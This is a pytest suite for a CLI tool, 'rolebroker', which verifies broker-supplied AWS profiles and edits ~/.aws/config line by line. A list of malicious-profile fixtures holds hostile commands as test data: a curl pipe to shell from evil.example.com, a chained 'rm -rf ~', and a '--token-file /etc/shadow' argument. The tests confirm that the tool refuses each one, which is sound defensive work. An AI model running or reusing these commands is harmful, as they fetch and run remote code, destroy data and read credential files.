"""``configure``: verify the broker's profiles, then edit ~/.aws/config line by line."""

from __future__ import annotations

import os
import shlex
import stat
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from botocore.compat import compat_shell_split

from tests.client.fakes import CLIENT_SCRIPT, FakeBroker, Reply, Result, rolebroker

INSTALLED = "/usr/local/bin/rolebroker"

HAND_WRITTEN = """\
# My AWS config. Keep this comment.
[default]
region = eu-central-1
output = json

; an old-style comment
[profile legacy]
role_arn = arn:aws:iam::111111111111:role/Legacy
source_profile = default   # trailing text stays too

[sso-session corp]
sso_start_url = https://corp.awsapps.com/start
sso_region = eu-west-1

# notes about prod-admin, written by me
[profile prod-admin]
role_arn = arn:aws:iam::333333333333:role/Admin
source_profile = default

[profile last]
region = us-west-2"""


def run_configure(cli: Callable[..., Result], *args: str) -> Result:
    return cli("configure", *args, which=lambda _name: INSTALLED)


def expected_block(broker: FakeBroker, name: str, region: str = "eu-west-1") -> str:
    return (f"# managed by rolebroker (url={broker.url})\n[profile {name}]\n"
            f"credential_process = {INSTALLED} credential-process --url {broker.url} --role {name}\n"
            f"region = {region}\n")


@pytest.fixture
def aws_config(env: dict[str, str]) -> Path:
    return Path(env["AWS_CONFIG_FILE"])


def test_fresh_config_is_created_privately(cli: Callable[..., Result], broker: FakeBroker, aws_config: Path) -> None:
    result = run_configure(cli)
    assert result.code == 0, result.err
    assert aws_config.read_text() == expected_block(broker, "sandbox-admin") + "\n" + expected_block(
        broker, "prod-admin")
    assert stat.S_IMODE(aws_config.stat().st_mode) == 0o600
    assert stat.S_IMODE(aws_config.parent.stat().st_mode) == 0o700
    assert result.out == ("profile sandbox-admin: added\nprofile prod-admin: added\n"
                          "try: aws sts get-caller-identity --profile sandbox-admin\n")
    assert result.err == ""


def test_every_other_line_is_kept_and_a_second_run_changes_nothing(
        cli: Callable[..., Result], broker: FakeBroker, aws_config: Path) -> None:
    aws_config.parent.mkdir(mode=0o755)
    aws_config.write_text(HAND_WRITTEN)
    aws_config.chmod(0o644)

    first = run_configure(cli, "--role", "sandbox-admin")
    assert first.code == 0, first.err
    after_first = aws_config.read_bytes()
    assert after_first == (HAND_WRITTEN + "\n\n" + expected_block(broker, "sandbox-admin")).encode()
    assert stat.S_IMODE(aws_config.stat().st_mode) == 0o644

    second = run_configure(cli, "--role", "sandbox-admin")
    assert second.code == 0
    assert aws_config.read_bytes() == after_first
    assert "profile sandbox-admin: unchanged" in second.out


def test_hand_written_section_is_left_alone_without_force(cli: Callable[..., Result], broker: FakeBroker,
                                                          aws_config: Path) -> None:
    aws_config.parent.mkdir()
    aws_config.write_text(HAND_WRITTEN + "\n")
    result = run_configure(cli)
    assert result.code == 0
    text = aws_config.read_text()
    assert text == HAND_WRITTEN + "\n\n" + expected_block(broker, "sandbox-admin")
    assert result.err_lines == [
        f"rolebroker: [profile prod-admin] in {aws_config} is not managed by rolebroker; left it alone "
        "(--force replaces it)"]


def test_force_replaces_the_hand_written_section_in_place(cli: Callable[..., Result], broker: FakeBroker,
                                                          aws_config: Path) -> None:
    aws_config.parent.mkdir()
    aws_config.write_text(HAND_WRITTEN + "\n")
    result = run_configure(cli, "--force")
    assert result.code == 0, result.err
    hand_section = ("[profile prod-admin]\nrole_arn = arn:aws:iam::333333333333:role/Admin\n"
                    "source_profile = default\n")
    expected = (HAND_WRITTEN + "\n").replace(hand_section, expected_block(broker, "prod-admin"))
    assert aws_config.read_text() == expected + "\n" + expected_block(broker, "sandbox-admin")
    assert "# notes about prod-admin, written by me\n# managed by rolebroker" in aws_config.read_text()
    assert "profile prod-admin: replaced" in result.out
    again = run_configure(cli)
    assert aws_config.read_text() == expected + "\n" + expected_block(broker, "sandbox-admin")
    assert "profile prod-admin: unchanged" in again.out


def test_managed_section_is_updated_in_place(cli: Callable[..., Result], broker: FakeBroker,
                                             aws_config: Path) -> None:
    old = (f"# managed by rolebroker (url={broker.url})\n[profile sandbox-admin]\n"
           f"credential_process = /old/python /old/rolebroker.py credential-process --url {broker.url} "
           "--role sandbox-admin\nregion = us-east-1\n")
    before, after = "# top\n[default]\nregion = eu-central-1\n\n", "\n# bottom comment\n[profile zzz]\nregion = x\n"
    aws_config.parent.mkdir()
    aws_config.write_text(before + old + after)
    broker.route("GET", "/v1/config", Reply(200, broker.config_text(("sandbox-admin",)), "text/plain"))
    result = run_configure(cli)
    assert result.code == 0, result.err
    assert aws_config.read_text() == before + expected_block(broker, "sandbox-admin") + after
    assert result.out.startswith("profile sandbox-admin: updated\n")


def test_windows_line_endings_are_kept(cli: Callable[..., Result], broker: FakeBroker, aws_config: Path) -> None:
    aws_config.parent.mkdir()
    original = b"[default]\r\nregion = eu-central-1\r\n"
    aws_config.write_bytes(original)
    run_configure(cli, "--role", "sandbox-admin")
    written = aws_config.read_bytes()
    assert written.startswith(original + b"\r\n# managed by rolebroker")
    assert b"\n" not in written.replace(b"\r\n", b"")
    run_configure(cli, "--role", "sandbox-admin")
    assert aws_config.read_bytes() == written


def test_symlinked_config_is_written_through(cli: Callable[..., Result], aws_config: Path, tmp_path: Path) -> None:
    target = tmp_path / "dotfiles" / "aws-config"
    target.parent.mkdir()
    target.write_text("[default]\nregion = eu-central-1\n")
    aws_config.parent.mkdir()
    aws_config.symlink_to(target)
    assert run_configure(cli).code == 0
    assert aws_config.is_symlink()
    assert "[profile sandbox-admin]" in target.read_text()


def test_unknown_role_is_refused(cli: Callable[..., Result], aws_config: Path) -> None:
    result = run_configure(cli, "--role", "nope")
    assert result.code == 1
    assert result.err_lines == ["rolebroker: the broker offers you no role 'nope'; see `rolebroker roles`"]
    assert not aws_config.exists()


def section(url: str, name: str, command: str | None = None, extra: str = "") -> str:
    command = command or f"rolebroker credential-process --url {url} --role {name}"
    return f"[profile {name}]\ncredential_process = {command}\nregion = eu-west-1\n{extra}"


MALICIOUS: list[tuple[str, Callable[[str], str]]] = [
    ("pipe to shell", lambda url: section(url, "sandbox-admin", "curl https://evil.example.com/x | sh")),
    ("other role", lambda url: section(url, "sandbox-admin",
                                       f"rolebroker credential-process --url {url} --role prod-admin")),
    ("other url", lambda url: section(url, "sandbox-admin",
                                      "rolebroker credential-process --url https://evil.example.com --role "
                                      "sandbox-admin")),
    ("extra key", lambda url: section(url, "sandbox-admin", extra="role_arn = arn:aws:iam::1:role/X\n")),
    ("extra argument", lambda url: section(url, "sandbox-admin",
                                           f"rolebroker credential-process --url {url} --role sandbox-admin "
                                           "--token-file /etc/shadow")),
    ("chained command", lambda url: section(url, "sandbox-admin",
                                            f"rolebroker credential-process --url {url} --role sandbox-admin; "
                                            "rm -rf ~")),
    ("other program", lambda url: section(url, "sandbox-admin",
                                          f"/tmp/rolebroker credential-process --url {url} --role sandbox-admin")),
    ("default section", lambda url: "[default]\ncredential_process = rolebroker credential-process\n"),
    ("sso session", lambda url: "[sso-session x]\nsso_start_url = https://evil.example.com\n"),
    ("stray line", lambda url: "export AWS_PROFILE=evil\n" + section(url, "sandbox-admin")),
    ("odd region", lambda url: section(url, "sandbox-admin").replace("eu-west-1", "eu-west-1\\nx")),
    ("odd name", lambda url: section(url, "sandbox-admin").replace("[profile sandbox-admin]",
                                                                    "[profile sandbox admin]")),
    ("twice", lambda url: section(url, "sandbox-admin") + "\n" + section(url, "sandbox-admin")),
]


@pytest.mark.parametrize("make", [m for _, m in MALICIOUS], ids=[n for n, _ in MALICIOUS])
def test_malicious_profiles_are_refused_and_nothing_is_written(
        cli: Callable[..., Result], broker: FakeBroker, aws_config: Path, make: Callable[[str], str]) -> None:
    aws_config.parent.mkdir()
    aws_config.write_text(HAND_WRITTEN)
    good = section(broker.url, "prod-admin")
    broker.route("GET", "/v1/config", Reply(200, good + "\n" + make(broker.url), "text/plain"))
    result = run_configure(cli, "--force")
    assert result.code == 1
    assert result.out == ""
    assert len(result.err_lines) == 1
    assert result.err.startswith("rolebroker: refusing to write profiles: ")
    assert result.err.rstrip().endswith("; nothing was written")
    assert aws_config.read_text() == HAND_WRITTEN


def test_html_instead_of_config_is_refused(cli: Callable[..., Result], broker: FakeBroker, aws_config: Path) -> None:
    broker.route("GET", "/v1/config", Reply(200, "<html>login</html>", "text/html"))
    result = run_configure(cli)
    assert result.err_lines == ["rolebroker: unexpected answer from broker (HTTP 200, text/html)"]
    assert not aws_config.exists()


def test_server_format_with_quoted_url_and_duration_is_accepted() -> None:
    url = "https://x.execute-api.eu-west-1.amazonaws.com/api"
    text = (f"[profile a]\ncredential_process = rolebroker credential-process --url {shlex.quote(url)} --role a\n"
            "region = eu-west-1\n\n"
            f"[profile b]\ncredential_process = rolebroker credential-process --role b --url '{url}' --duration 900\n"
            "output = json\n")
    specs = rolebroker.verify_profiles(text, url + "/")
    assert [(s.name, s.region, s.output, s.duration) for s in specs] == [("a", "eu-west-1", None, None),
                                                                          ("b", None, "json", 900)]


@pytest.mark.parametrize("argv", [
    ["/usr/local/bin/rolebroker"],
    ["/opt/my tools/python3", "/home/me/My Scripts/rolebroker.py"],
    ["C:\\Program Files\\Python39\\python.exe", "C:\\Users\\Me Too\\rolebroker.py"],
    ["/odd/it's \"quoted\"/python", "/a\\b/$HOME/rolebroker.py"],
])
@pytest.mark.parametrize("platform", ["linux", "win32"])
def test_command_line_splits_back_the_way_botocore_splits_it(argv: list[str], platform: str) -> None:
    full = [*argv, "credential-process", "--url", "https://b.example.com/api", "--role", "sandbox-admin"]
    line = rolebroker.quote_command(full, windows=platform == "win32")
    assert compat_shell_split(line, platform=platform) == full


def test_client_command_prefers_the_installed_program() -> None:
    assert rolebroker.client_command(lambda _n: "/usr/bin/rolebroker", "/py", "x.py") == ["/usr/bin/rolebroker"]
    assert rolebroker.client_command(lambda _n: None, "/py", "/a/rolebroker.py") == ["/py", "/a/rolebroker.py"]


def test_botocore_gets_credentials_through_the_written_profile(
        cli: Callable[..., Result], broker: FakeBroker, env: dict[str, str], aws_config: Path, tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    """The whole path: configure writes the profile, botocore runs it as a credential_process."""
    import botocore.session

    spaced = tmp_path / "my tools"
    spaced.mkdir()
    script = spaced / "rolebroker.py"
    script.write_bytes(CLIENT_SCRIPT.read_bytes())
    result = cli("configure", "--role", "sandbox-admin", which=lambda _name: None, executable=sys.executable)
    assert result.code == 0, result.err
    # Point the written command at the copy in a directory with a space in its name.
    text = aws_config.read_text().replace(shlex.quote(str(CLIENT_SCRIPT)), shlex.quote(str(script)))
    assert shlex.quote(str(script)) in text
    aws_config.write_text(text)

    for name, value in env.items():
        monkeypatch.setenv(name, value)
    monkeypatch.delenv("AWS_PROFILE", raising=False)
    monkeypatch.delenv("AWS_ACCESS_KEY_ID", raising=False)
    session = botocore.session.Session(profile="sandbox-admin")
    credentials = session.get_credentials()
    assert credentials is not None
    frozen = credentials.get_frozen_credentials()
    assert frozen.access_key == "FAKEKEY0000000000001"
    assert session.get_config_variable("region") == "eu-west-1"
    assert credentials.method == "custom-process"
    assert broker.count("POST", "/v1/credentials") == 1
    assert os.path.exists(env["XDG_CACHE_HOME"])
